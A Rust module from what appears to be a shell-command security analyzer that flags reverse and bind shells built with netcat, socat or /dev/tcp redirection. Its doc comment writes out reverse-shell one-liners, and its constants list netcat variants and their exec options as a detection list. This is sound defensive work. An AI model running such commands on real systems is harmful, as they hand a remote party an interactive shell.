//! Shells handed to a network peer by socket tools: `nc -e /bin/sh HOST PORT` (and `-c`,
//! `--exec`, `--sh-exec`, `--lua-exec`, listening or connecting), `socat EXEC:sh TCP:…`, and
//! a shell whose redirections go to `/dev/tcp/…` (`bash -i >& /dev/tcp/h/p 0>&1`). Each
//! sets the behavior `reverse_shell`.

use crate::analyzer::Analyzer;
use crate::model::push_unique;
use crate::word::Word;

/// netcat's names.
const NETCATS: &[&str] = &[
    "nc",
    "ncat",
    "netcat",
    "nc.traditional",
    "nc.openbsd",
    "pwncat",
];

/// Options of netcat that run a program on the connection.
const NETCAT_EXEC: &[&str] = &["-e", "-c", "--exec", "--sh-exec", "--lua-exec"];

impl Analyzer<'_> {
    /// Records a reverse or bind shell made by `name args` (see the module doc).
    pub(crate) fn socket_shell(&mut self, name: &str, args: &[Word]) {
        let shell = match name {
            _ if NETCATS.contains(&name) => args.iter().any(|w| {
                NETCAT_EXEC.contains(&w.text.as_str())
                    || NETCAT_EXEC
                        .iter()
                        .any(|o| o.starts_with("--") && w.text.starts_with(&format!("{o}=")))
                    || (w.text.starts_with("-e") && w.text.len() > 2 && w.text.contains('/'))
            }),
            "socat" => {
                let lower: Vec<String> = args.iter().map(|w| w.text.to_ascii_lowercase()).collect();
                let runs = lower
                    .iter()
                    .any(|a| a.starts_with("exec:") || a.starts_with("system:"));
                let network = lower.iter().any(|a| {
                    ["tcp", "udp", "openssl", "ssl", "sctp", "socks", "proxy"]
                        .iter()
                        .any(|p| a.starts_with(p))
                });
                runs && network
            }
            _ => crate::interpreters::is_shell(name) && self.dev_tcp_redirect,
        };
        if shell {
            push_unique(&mut self.out.behaviors, "reverse_shell");
        }
    }
}
